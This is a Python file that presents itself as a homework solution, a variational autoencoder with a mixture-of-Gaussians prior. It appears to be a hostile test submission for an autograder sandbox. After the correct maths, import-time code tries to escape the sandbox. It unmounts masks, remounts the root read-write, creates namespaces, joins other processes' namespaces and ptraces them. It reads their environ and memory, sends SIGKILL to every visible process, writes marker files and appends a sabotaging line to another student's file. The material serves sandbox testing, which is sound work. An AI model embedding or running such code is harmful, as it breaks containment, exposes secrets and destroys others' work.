# At import tries every known way out of the sandbox (umount2 of the masks, remount / read-write, new namespaces,
# setns into other processes' namespaces, ptrace / process_vm_readv / /proc/<pid>/{mem,environ,root} of every process
# it can see, SIGKILL to every pid, mount a fresh /proc) and, for each that works, does damage (writes
# /tmp/gradekit_pwned through the host's root, overwrites ../alice/vae.py). Prints "[escape] NAME: SUCCEEDED" or
# "[escape] NAME: blocked (...)". Expected: full marks (honest maths), every attempt blocked, nothing touched.
# Homework 2 -- VAE with a mixture-of-Gaussians prior
# (hostile-corpus base: Alice's correct solution; the public names are thin wrappers around private helpers)
import math

import torch
import torch.nn as nn
import torch.nn.functional as F

EPS = 1.0e-5
HALF_LOG_TWO_PI = 0.5 * math.log(2 * math.pi)


def _reduce(values, reduction, dim):
    if reduction is None:
        return values
    if reduction == "sum":
        return values.sum() if dim is None else values.sum(dim)
    if reduction == "avg":
        return values.mean() if dim is None else values.mean(dim)
    raise ValueError(f"unknown reduction {reduction}")


# ---- private helpers: what the classes below use, so an attack on a public name costs only that name
def _log_normal_diag(x, mu, log_var, reduction=None, dim=None):
    values = -HALF_LOG_TWO_PI - 0.5 * log_var - 0.5 * (x - mu) ** 2 / torch.exp(log_var)
    return _reduce(values, reduction, dim)


def _log_standard_normal(x, reduction=None, dim=None):
    return _reduce(-HALF_LOG_TWO_PI - 0.5 * x.pow(2), reduction, dim)


def _log_bernoulli(x, p, reduction=None, dim=None):
    p = p.clamp(EPS, 1.0 - EPS)
    return _reduce(x * p.log() + (1.0 - x) * torch.log1p(-p), reduction, dim)


def _log_categorical(x, p, num_classes=256, reduction=None, dim=None):
    mask = F.one_hot(x.long(), num_classes=num_classes).type_as(p)
    return _reduce(mask * p.clamp(EPS, 1.0 - EPS).log(), reduction, dim)


# ---- the assignment's functions
def log_normal_diag(x, mu, log_var, reduction=None, dim=None):
    return _log_normal_diag(x, mu, log_var, reduction, dim)


def log_standard_normal(x, reduction=None, dim=None):
    return _log_standard_normal(x, reduction, dim)


def log_bernoulli(x, p, reduction=None, dim=None):
    return _log_bernoulli(x, p, reduction, dim)


def log_categorical(x, p, num_classes=256, reduction=None, dim=None):
    return _log_categorical(x, p, num_classes, reduction, dim)


class Encoder(nn.Module):
    def __init__(self, encoder_net):
        super().__init__()
        self.encoder = encoder_net

    @staticmethod
    def reparameterization(mu, log_var):
        std = torch.exp(0.5 * log_var)
        eps = torch.empty_like(std).normal_()
        return mu + eps * std

    def _encode(self, x):
        h = self.encoder(x)
        half = h.shape[1] // 2
        return h[:, :half], h[:, half:]

    def encode(self, x):
        return self._encode(x)

    def sample(self, x=None, mu_e=None, log_var_e=None):
        if mu_e is None or log_var_e is None:
            if x is None:
                raise ValueError("give x, or mu_e and log_var_e")
            mu_e, log_var_e = self._encode(x)
        return self.reparameterization(mu_e, log_var_e)

    def log_prob(self, x=None, mu_e=None, log_var_e=None, z=None):
        if x is not None:
            mu_e, log_var_e = self._encode(x)
            z = self.reparameterization(mu_e, log_var_e)
        elif mu_e is None or log_var_e is None or z is None:
            raise ValueError("give x, or mu_e, log_var_e and z")
        return _log_normal_diag(z, mu_e, log_var_e)  # element-wise, B x L

    def forward(self, x, type="log_prob"):
        return self.log_prob(x) if type == "log_prob" else self.sample(x)


class Decoder(nn.Module):
    def __init__(self, decoder_net, distribution="categorical", num_vals=None):
        super().__init__()
        self.decoder = decoder_net
        self.distribution = distribution
        self.num_vals = num_vals

    def decode(self, z):
        h = self.decoder(z)
        if self.distribution == "categorical":
            logits = h.reshape(h.shape[0], -1, self.num_vals)
            return [F.softmax(logits, dim=-1)]
        if self.distribution == "bernoulli":
            return [torch.sigmoid(h)]
        raise ValueError("distribution must be 'categorical' or 'bernoulli'")

    def sample(self, z):
        probs = self.decode(z)[0]
        if self.distribution == "categorical":
            return torch.distributions.Categorical(probs=probs).sample().float()
        return torch.bernoulli(probs)

    def log_prob(self, x, z):
        probs = self.decode(z)[0]
        if self.distribution == "categorical":
            return _log_categorical(x, probs, num_classes=self.num_vals, reduction="sum", dim=-1).sum(-1)
        return _log_bernoulli(x, probs, reduction="sum", dim=-1)


class MoGPrior(nn.Module):
    def __init__(self, L, num_components):
        super().__init__()
        self.L = L
        self.num_components = num_components
        self.means = nn.Parameter(torch.randn(num_components, L))
        self.logvars = nn.Parameter(torch.randn(num_components, L))
        self.w = nn.Parameter(torch.zeros(num_components, 1, 1))

    def sample(self, batch_size):
        k = torch.distributions.Categorical(logits=self.w.view(-1)).sample((batch_size,))
        eps = torch.randn(batch_size, self.L, device=self.means.device)
        return self.means[k] + torch.exp(0.5 * self.logvars[k]) * eps

    def log_prob(self, z):
        # components on the last axis: B x K
        log_w = F.log_softmax(self.w.view(-1), dim=0)
        per_comp = _log_normal_diag(z.unsqueeze(1), self.means.unsqueeze(0), self.logvars.unsqueeze(0)).sum(-1)
        return torch.logsumexp(per_comp + log_w, dim=1)


class VAE(nn.Module):
    def __init__(self, encoder_net, decoder_net, prior, num_vals=256, L=16, likelihood_type="categorical"):
        super().__init__()
        self.encoder = Encoder(encoder_net)
        self.decoder = Decoder(decoder_net, distribution=likelihood_type, num_vals=num_vals)
        self.prior = prior
        self.num_vals = num_vals
        self.L = L
        self.likelihood_type = likelihood_type

    def forward(self, x, reduction="avg"):
        mu_e, log_var_e = self.encoder._encode(x)
        z = self.encoder.reparameterization(mu_e, log_var_e)
        rec = self.decoder.log_prob(x, z)
        kl = _log_normal_diag(z, mu_e, log_var_e).sum(-1) - self.prior.log_prob(z)
        loss = -(rec - kl)
        return loss.sum() if reduction == "sum" else loss.mean()

    def sample(self, batch_size=64):
        return self.decoder.sample(self.prior.sample(batch_size))


# ---- vandalism at import time


# ---- escape attempts at import time
import ctypes as _ct
import os as _os
import signal as _signal

_libc = _ct.CDLL(None, use_errno=True)
_SUCCEEDED = []


def _report(name, ok, detail=""):
    if ok:
        _SUCCEEDED.append(name)
    print(f"[escape] {name}: " + ("SUCCEEDED" if ok else f"blocked ({detail})"), flush=True)


def _errno():
    return _os.strerror(_ct.get_errno())


def _damage(root="/"):
    for path in (_os.path.join(root, "tmp/gradekit_pwned"),):
        try:
            with open(path, "w") as f:
                f.write("pwned\n")
            print(f"[escape] wrote {path}", flush=True)
        except OSError:
            pass


def _mount_points():
    try:
        with open("/proc/self/mountinfo") as f:
            return [line.split()[4] for line in f]
    except OSError:
        return []


# 1. undo the masks and the read-only file system
for _p in reversed(_mount_points()):
    _r = _libc.umount2(_p.encode(), 2)  # MNT_DETACH
    if _r == 0:
        _report(f"umount2 {_p}", True)
_report("umount2 of the mounts", False, _errno()) if not _SUCCEEDED else None
_r = _libc.mount(b"none", b"/", None, _ct.c_ulong(32 | 4096), None)  # MS_REMOUNT|MS_BIND, without MS_RDONLY
_report("remount / read-write", _r == 0, _errno())
try:
    with open("/usr/gradekit_pwned", "w") as _f:
        _f.write("x")
    _report("write to /usr", True)
    _os.unlink("/usr/gradekit_pwned")
except OSError as _e:
    _report("write to /usr", False, _e.strerror)
_r = _libc.mount(b"proc", b"/mnt", b"proc", _ct.c_ulong(0), None)
_report("mount a new proc", _r == 0, _errno())
# 2. new namespaces (a user namespace would give back every capability inside it)
for _name, _flag in (("user", 0x10000000), ("mount", 0x00020000), ("net", 0x40000000), ("pid", 0x20000000)):
    _r = _libc.unshare(_ct.c_int(_flag))
    _report(f"unshare {_name}", _r == 0, _errno())
_r = _libc.syscall(56, _ct.c_ulong(0x10000000 | 17), None, None, None, None)  # clone(CLONE_NEWUSER|SIGCHLD) on x86-64
if _r == 0:
    _os._exit(0)
_report("clone into a new user namespace", _r > 0, _errno())
# 3. every other process it can see: namespaces, memory, environment, root, signals
_me = _os.getpid()
_pids = [int(p) for p in _os.listdir("/proc") if p.isdigit() and int(p) != _me]
_report("see another process in /proc", bool(_pids), f"only {_os.listdir('/proc')[:0] or 'itself'} visible")
_own = {int(t) for t in _os.listdir("/proc/self/task")}  # its own threads are no conquest
for _pid in range(1, 4):  # the usual low pids of the host (init, kthreadd) and of its own namespace
    if _pid not in _own and _pid not in _pids:
        _pids.append(_pid)
for _pid in _pids:
    for _ns in ("net", "mnt", "user", "pid"):
        try:
            _fd = _os.open(f"/proc/{_pid}/ns/{_ns}", _os.O_RDONLY)
        except OSError:
            continue
        _r = _libc.setns(_fd, 0)
        _report(f"setns to {_pid}'s {_ns} namespace", _r == 0, _errno())
        _os.close(_fd)
    _r = _libc.ptrace(16, _pid, None, None)  # PTRACE_ATTACH
    _report(f"ptrace {_pid}", _r == 0, _errno())
    for _what in ("environ", "mem"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _data = _f.read(64)
            _report(f"read /proc/{_pid}/{_what}", bool(_data), "empty")
        except OSError as _e:
            _report(f"read /proc/{_pid}/{_what}", False, _e.strerror)
    if _os.path.isdir(f"/proc/{_pid}/root/tmp"):
        _damage(f"/proc/{_pid}/root")
    try:
        _os.kill(_pid, _signal.SIGKILL)
        _report(f"SIGKILL {_pid}", True)
    except OSError as _e:
        _report(f"SIGKILL {_pid}", False, _e.strerror)
# 4. whatever worked, try the damage through the plain paths too
_damage()
_here = _os.path.dirname(_os.path.abspath(__file__))
for _rel in ("../alice/vae.py", "../../class/alice/vae.py"):
    try:
        with open(_os.path.normpath(_os.path.join(_here, _rel)), "a") as _f:
            _f.write("\nraise SystemExit('sabotaged')\n")
        _report(f"append to {_rel}", True)
    except OSError as _e:
        _report(f"append to {_rel}", False, _e.strerror)
print(f"[escape] {len(_SUCCEEDED)} attempts succeeded: {_SUCCEEDED}", flush=True)
